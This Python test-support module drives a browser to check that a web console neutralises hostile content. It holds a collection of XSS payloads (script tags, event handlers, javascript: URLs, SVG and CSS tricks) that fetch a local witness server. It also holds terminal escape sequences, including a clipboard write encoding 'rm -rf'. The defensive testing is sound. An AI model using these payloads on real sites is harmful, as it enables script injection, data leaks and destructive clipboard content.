"""Hostile texts, and who notices in a real browser that one of them did anything."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from typing import Any

from tests.console.browser import Page
from tests.support.loopback import answer, serving

# What the console's pages ask for by themselves, while nobody presses anything that changes something.
READS = {
    "approvals/events", "approvals/propose", "artifacts/list", "artifacts/read", "audit/chart", "audit/crossings",
    "audit/events", "audit/propose", "audit/tail", "doctor", "files/list", "files/read", "runs/get", "runs/list",
    "runs/stream", "sessions/diff", "sessions/get", "sessions/list", "sessions/previews", "sessions/variables",
    "set_limits", "stats",
}  # fmt: skip
# Two frames after a picture has failed: by then what acts when it is parsed, loaded or not found has acted.
_SETTLE = """() => new Promise((done) => { const image = new Image();
image.onerror = () => requestAnimationFrame(() => requestAnimationFrame(() => done()));
image.src = 'data:image/png,none'; })"""


class Witness:
    """A server at another port of this machine that writes down who asks; ``pages``: what it gives, by path."""

    def __init__(self, port: int) -> None:
        self.origin = f"http://127.0.0.1:{port}"
        self.asked: list[str] = []
        self.pages: dict[str, tuple[str, str]] = {}
        self.headers: dict[str, str] = {}


@contextmanager
def witness() -> Iterator[Witness]:
    def note(request: BaseHTTPRequestHandler) -> None:
        request.rfile.read(int(request.headers.get("content-length") or 0))
        kind, text = one.pages.get(request.path, ("text/plain", ""))
        if request.path not in (*one.pages, "/favicon.ico"):
            one.asked.append(request.path)
        answer(request, (text or "x").encode(), **{"content-type": kind, **one.headers})

    with serving(note) as port:
        one = Witness(port)
        yield one


class Judge:
    """Of one page at ``origin``. What it finds is what a hostile text has done."""

    def __init__(self, page: Page, origin: str, seen: Witness) -> None:
        self._page, self._origin, self._witness = page, origin, seen
        self._found: list[str] = []
        page.context.on("request", self._note_begun_request)
        page.context.on("requestfinished", self._note_request)  # what a policy refuses begins, and never finishes
        page.context.on("page", lambda other: self._found.append(f"page {other.url}"))
        page.on("dialog", self._note_dialog)

    def findings(self) -> list[str]:
        """All so far, once what is shown now had its time."""
        from playwright.sync_api import Error

        try:
            self._page.evaluate(_SETTLE)
            marked = [frame.url for frame in self._page.frames if frame.evaluate("window.hacked")]
        except Error as error:  # another document came in between
            self._found.append(f"gone: {error}")
            marked = []
        self._found += [f"marker in {url}" for url in marked]
        if not self._page.url.startswith(f"{self._origin}/console/"):
            self._found.append(f"went to {self._page.url}")
        return [*self._found, *(f"asked {path}" for path in self._witness.asked)]

    def _note_begun_request(self, request: Any) -> None:
        if request.url.startswith(self._origin):
            self._note_request(request)

    def _note_request(self, request: Any) -> None:
        path = request.url.removeprefix(self._origin)
        is_file = path.startswith("/console/") and request.method == "GET"
        is_read = path.removeprefix("/v1/") in READS and request.frame == self._page.main_frame
        if not (is_file or is_read or request.url.startswith(("blob:", "data:"))):
            self._found.append(f"request {request.method} {request.url}")

    def _note_dialog(self, dialog: Any) -> None:
        self._found.append(f"dialog {dialog.message}")
        dialog.dismiss()


def markup(origin: str) -> dict[str, str]:
    """Texts that each do something where they are read as HTML; they ask at ``origin``."""
    act = f"top.hacked=window.hacked=1;alert(1);fetch('{origin}/fetched')"
    url = f"{origin}/asked"
    return {
        "script": f"<script>{act}</script>",
        "picture": f'<img src="data:,x" onerror="{act}">',
        "breaks out of an attribute": f'"\'><img src="data:,x" onerror="{act}">',
        "breaks out of an element": f'</pre></textarea></title></style></code><svg onload="{act}"></svg>',
        "breaks out of a script": f"</script>--><script>{act}</script>",
        "opens": f'<details open ontoggle="{act}"><summary>x</summary></details>',
        "animation": f'<style>@keyframes x{{}}</style><b style="animation:x 1ms" onanimationstart="{act}">x</b>',
        "focus": f'<input autofocus onfocus="{act}">',
        "frame": f'<iframe srcdoc="<script>{act}</script>"></iframe>',
        "frame of an address": f'<iframe src="javascript:{act}"></iframe>',
        "mathml": f'<math><mtext><img src="data:,x" onerror="{act}"></mtext></math>',
        "object": f'<object data="{url}"></object>',
        "embedded": f'<embed src="{url}">',
        "style": f"<style>@import '{url}.css'; body {{ background: url({url}.png) }}</style>",
        "inline style": f'<p style="background: url({url}.png)">x</p>',
        "style sheet": f'<link rel="stylesheet" href="{url}.css">',
        "font": f"<style>@font-face{{font-family:x;src:url({url}.woff)}}*{{font-family:x}}</style>text",
        "ahead": f'<link rel="preload" as="image" href="{url}"><img src="{url}" srcset="{url} 2x">',
        "refresh": f'<meta http-equiv="refresh" content="0;url={url}">',
        "film": f'<video poster="{url}.png" src="{url}.mp4" autoplay></video><audio src="{url}.mp3"></audio>',
        "drawing": f'<svg><image href="{url}" /><foreignObject><img src="data:,x" onerror="{act}" />'
        "</foreignObject></svg>",
        "base": f'<base href="{origin}/"><img src="asked">',
    }


def drawing(origin: str) -> str:
    """An SVG document that acts where it is one."""
    act = f"window.hacked=1;alert(1);fetch('{origin}/fetched')"
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"
 onload="{act}"><script>{act}</script><image xlink:href="{origin}/asked" width="9" height="9"/>
<style>@import "{origin}/asked";</style><foreignObject width="9" height="9">
<iframe xmlns="http://www.w3.org/1999/xhtml" src="{origin}/asked"></iframe></foreignObject>
<use href="{origin}/asked#x"/>
<animate onbegin="{act}" attributeName="x" dur="1s"/><rect width="40" height="40"/></svg>"""


# Strings that a terminal or a screen would act upon: titles, links, the clipboard, cleared screens, other directions.
ACTIVE = (
    "\x1b]0;title\x07\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07\x1b]52;c;cm0gLXJm\x07\x1b[2J\x1b[1;1H\x1bP+q544e\x1b\\"
    "\x9b31m\x1b[8mconcealed\x1b[0m\u202eevil\u2066\u200b\ufeff\x00\x08\r\x7f"
)
HIDDEN = "\u202e\u2066\u200b\ufeff\x00\x08\x7f\x9b\x1b"  # of these no page has one in its text


def bundles(origin: str) -> list[dict[str, Any]]:
    """Results as a program gives them: of each type what could act in it, and what is another type than it says."""
    html = "".join(markup(origin).values())
    as_base64 = base64.b64encode(html.encode()).decode()
    drawn = base64.b64encode(drawing(origin).encode()).decode()
    return [
        {"text/html": html},
        {"text/html": f"<!doctype html><html><head><title>x</title></head><body onload=\"hacked=1\">{html}"},
        {"image/svg+xml": drawing(origin)},
        {"image/svg+xml": html},
        {"image/png": as_base64}, {"image/jpeg": drawn}, {"image/gif": "GIF89a" + html}, {"image/webp": "not base64"},
        {"text/markdown": f"[x](javascript:alert(1)) ![y]({origin}/asked)\n{html}"},
        {"text/latex": f"$\\href{{javascript:alert(1)}}{{x}} \\includegraphics{{{origin}/asked}}$ {html}"},
        {"application/json": {html: [html, {"__proto__": {"hacked": 1}, "constructor": html}]}},
        {"application/javascript": "window.hacked=1;alert(1)"},
        {"text/css": f"* {{ background: url({origin}/asked) }}"},
        {"application/pdf": as_base64},
        {"application/vnd.jupyter.widget-view+json": {"model_id": html}},
        {html[:200]: html},
        {"TEXT/HTML": html}, {"text/html; charset=utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"},
        {"text/plain": ACTIVE},
    ]  # fmt: skip
